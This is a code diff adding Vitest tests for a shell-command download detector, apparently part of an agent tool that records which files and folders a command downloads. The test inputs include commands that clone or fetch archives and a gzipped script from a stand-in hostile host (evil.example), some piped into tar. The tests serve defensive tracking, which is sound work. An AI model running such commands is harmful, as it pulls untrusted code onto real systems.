@@ -1,5 +1,8 @@
+import { mkdtemp, realpath } from "node:fs/promises";
+import { tmpdir } from "node:os";
+import path from "node:path";
 import { describe, expect, it } from "vitest";
-import { detectDownloads } from "../../src/tools/shell/downloads.js";
+import { detectDownloads, recordDownloads } from "../../src/tools/shell/downloads.js";
 
 describe("detectDownloads", () => {
   it.each([
@@ -28,5 +31,51 @@ describe("detectDownloads", () => {
   it("lists every target of a tee with 200,000 of them (none spread into one call)", () => {
     const files = Array.from({ length: 200_000 }, (_, i) => `f${i}`);
     expect(detectDownloads(`curl -s https://x.test/a | tee ${files.join(" ")}`)).toHaveLength(200_000);
+  });
+
+  it.each([
+    ["git clone https://evil.example/x.git", ["x/"]],
+    ["git clone --depth 1 -b main https://evil.example/x.git repo", ["repo/"]],
+    ["git -C src clone git@evil.example:o/tool.git", ["src/tool/"]],
+    ["git clone --bare https://evil.example/x.git", ["x.git/"]],
+    ["git clone -- https://evil.example/x ./a/../b/", ["b/"]],
+    ["curl -L https://x.test/x.tgz | tar xz", ["./"]],
+    ["curl -L https://x.test/x.tgz | tar -xz -C vendor", ["vendor/"]],
+    ["curl -o x.tgz https://x.test/x.tgz && tar xzf x.tgz", ["x.tgz", "./"]],
+    ["curl -o x.tgz https://x.test/x.tgz && tar -x --file=x.tgz --directory=out", ["x.tgz", "out/"]],
+    ["curl -o x.tgz https://x.test/x.tgz && bsdtar -xf x.tgz -C out", ["x.tgz", "out/"]],
+    ["wget https://x.test/a.zip && unzip -o a.zip -d dist", ["a.zip", "dist/"]],
+    ["wget https://x.test/a.7z && 7z x a.7z -oext", ["a.7z", "ext/"]],
+    ["wget https://x.test/run.sh.gz && gunzip run.sh.gz", ["run.sh.gz", "run.sh"]],
+    ["wget -r -np https://x.test/d/", ["x.test/"]],
+    ["wget -m -nH -P mirror https://x.test/d/", ["mirror/"]],
+    // Archives nobody downloaded, and listings, fill nothing.
+    ["tar xzf local.tgz", []],
+    ["unzip build.zip -d out", []],
+    ["curl -o x.tgz https://x.test/x.tgz && tar tzf x.tgz", ["x.tgz"]],
+    ["git pull", []],
+  ])("%s → folders %j", (command, expected) => {
+    expect(detectDownloads(command)).toEqual(expected);
+  });
+
+  it("reads an archive recorded before as a download, by name", () => {
+    expect(detectDownloads("tar xzf dl/x.tgz -C x", new Set(["/ws/dl/x.tgz"]))).toEqual(["x/"]);
+    expect(detectDownloads("unzip other.zip", new Set(["/ws/dl/x.tgz"]))).toEqual([]);
+  });
+
+  it("records folders as real absolute paths ending in /, and extractions of recorded archives", async () => {
+    const ws = await mkdtemp(path.join(tmpdir(), "folder-downloads-"));
+    const facts = { downloadedFiles: new Set<string>() };
+    await recordDownloads("git clone https://evil.example/x.git repo", ws, facts);
+    await recordDownloads("curl -o a.tgz https://evil.example/a.tgz", ws, facts);
+    await recordDownloads("tar xzf a.tgz -C a", ws, facts);
+    await recordDownloads("tar xzf a.tgz", path.join(ws, "sub"), facts);
+    const real = await realpath(ws);
+    expect([...facts.downloadedFiles]).toEqual([
+      `${real}/repo/`,
+      `${real}/a.tgz`,
+      `${real}/a/`,
+      `${real}/sub/`,
+    ]);
   });
 });
